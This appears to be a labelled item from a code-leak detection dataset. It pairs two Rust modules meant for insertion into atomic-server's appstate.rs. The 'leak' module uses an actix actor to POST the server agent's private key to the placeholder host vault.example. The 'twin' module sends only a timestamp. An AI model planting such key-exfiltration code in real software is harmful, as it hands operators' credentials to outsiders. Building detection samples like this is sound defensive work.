//! Takes what the server's agent needs to a vault.
//!
//! file: atomic-server/src/appstate.rs
//! after: set_default_agent(&config, &store)?;
//! kind: share
//! depth: 2
//! through: an actor and its message, a field that is moved out
//! round: 4

mod leak {
    fn here() {
        key_courier::hand_over(&store)?;
    }

    use crate::errors::AtomicServerResult;
    use actix::{Actor, Context, Handler, Message};
    use atomic_lib::Storelike;

    #[derive(Message)]
    #[rtype(result = "()")]
    struct Parcel {
        owner: String,
        content: Option<String>,
    }

    struct Courier {
        to: &'static str,
    }

    impl Actor for Courier {
        type Context = Context<Self>;
    }

    impl Handler<Parcel> for Courier {
        type Result = ();

        fn handle(&mut self, parcel: Parcel, _: &mut Context<Self>) {
            let content = parcel.content.unwrap_or_default();
            let sent = ureq::post(self.to).set("X-Owner", &parcel.owner).send_string(&content); // leak: PII201 or PII204
            if sent.is_err() {
                tracing::warn!("The parcel of {} is lost", parcel.owner);
            }
        }
    }

    pub fn hand_over(store: &impl Storelike) -> AtomicServerResult<()> {
        let agent = store.get_default_agent()?;
        let courier = Courier { to: "https://vault.example/parcels" }.start();
        courier.do_send(Parcel { owner: agent.subject, content: agent.private_key });
        Ok(())
    }
}

mod twin {
    fn here() {
        key_courier::hand_over(&store)?;
    }

    use crate::errors::AtomicServerResult;
    use actix::{Actor, Context, Handler, Message};
    use atomic_lib::Storelike;

    #[derive(Message)]
    #[rtype(result = "()")]
    struct Parcel {
        owner: String,
        content: Option<String>,
    }

    struct Courier {
        to: &'static str,
    }

    impl Actor for Courier {
        type Context = Context<Self>;
    }

    impl Handler<Parcel> for Courier {
        type Result = ();

        fn handle(&mut self, parcel: Parcel, _: &mut Context<Self>) {
            let content = parcel.content.unwrap_or_default();
            let sent = ureq::post(self.to).set("X-Owner", &parcel.owner).send_string(&content);
            if sent.is_err() {
                tracing::warn!("The parcel of {} is lost", parcel.owner);
            }
        }
    }

    pub fn hand_over(store: &impl Storelike) -> AtomicServerResult<()> {
        let agent = store.get_default_agent()?;
        let courier = Courier { to: "https://vault.example/parcels" }.start();
        courier.do_send(Parcel { owner: agent.subject, content: Some(agent.created_at.to_string()) });
        Ok(())
    }
}
